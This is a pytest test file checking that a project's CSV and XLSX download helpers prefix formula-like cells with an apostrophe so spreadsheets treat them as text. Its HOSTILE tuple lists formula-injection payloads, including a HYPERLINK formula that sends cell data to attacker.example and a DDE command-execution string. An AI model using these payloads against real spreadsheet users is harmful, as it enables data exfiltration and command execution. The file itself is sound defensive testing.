"""Every download neutralises spreadsheet formulas in text that people typed."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.exports import csv_response, csv_streaming_response, spreadsheet_safe, xlsx_response

# Each way a cell can start that a spreadsheet would run as a formula.
HOSTILE = (
    '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text():
    assert [spreadsheet_safe(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]


def _csv_cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [row[0] for row in csv.reader(io.StringIO(content.decode(), newline=""))]


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
@pytest.mark.parametrize("respond", [csv_response, csv_streaming_response], ids=["csv", "stream"])
def test_a_csv_download_neutralises_a_cell_starting_with(respond, value):
    assert _csv_cells(respond("plan.csv", [["event"], [value]])) == ["event", "'" + value]


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_an_xlsx_download_holds_a_cell_starting_with_it_as_text_not_a_formula(value):
    response = xlsx_response("plan.xlsx", "Plan", [["event"], [value]])
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", "'" + value)


def test_ordinary_text_and_numbers_are_unchanged():
    assert [spreadsheet_safe(value) for value in ("Child R", -5, 3.5, None)] == [
        "Child R",
        -5,
        3.5,
        None,
    ]


def test_a_csv_download_is_an_attachment_with_safe_cells():
    response = csv_response("plan.csv", [["event"], ['=HYPERLINK("x")']])
    assert response["Content-Disposition"] == 'attachment; filename="plan.csv"'
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["event"],
        ['\'=HYPERLINK("x")'],
    ]
